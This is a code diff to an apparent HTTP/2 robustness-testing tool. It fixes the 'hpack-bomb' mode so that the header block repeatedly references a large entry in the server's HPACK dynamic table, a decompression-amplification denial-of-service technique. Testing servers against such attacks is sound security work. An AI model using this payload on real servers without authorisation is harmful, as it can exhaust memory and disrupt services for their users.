@@ -511,8 +511,14 @@ def mode_hpack_bomb(args):
     seed_status = p.statuses.get(sid1)
     sid = p.alloc()
     block = p.block(p.request_headers("/evil/hpack-bomb"))
-    reps = min(args.count, 16000 - len(block))
-    block += b"\xbe" * reps  # indexed field 62: the most recent dynamic entry
+    # Where `big` sits in the dynamic table now (the prefix above may have inserted entries after it).
+    entries = [(bytes(n), bytes(v)) for n, v in p.encoder.header_table.dynamic_entries]
+    if big not in entries:
+        return p.result(mode=args.mode, error="seed field evicted from the HPACK table")
+    ref = hpack.hpack.encode_integer(62 + entries.index(big), 7)
+    ref[0] |= 0x80  # indexed header field (RFC 7541 §6.1)
+    reps = min(args.count, (16000 - len(block)) // len(ref))
+    block += bytes(ref) * reps
     p.send_headers_frame(sid, block)
     r = stream_case(p, args, sid)
     return p.result(mode=args.mode, seed_status=seed_status, references=reps,
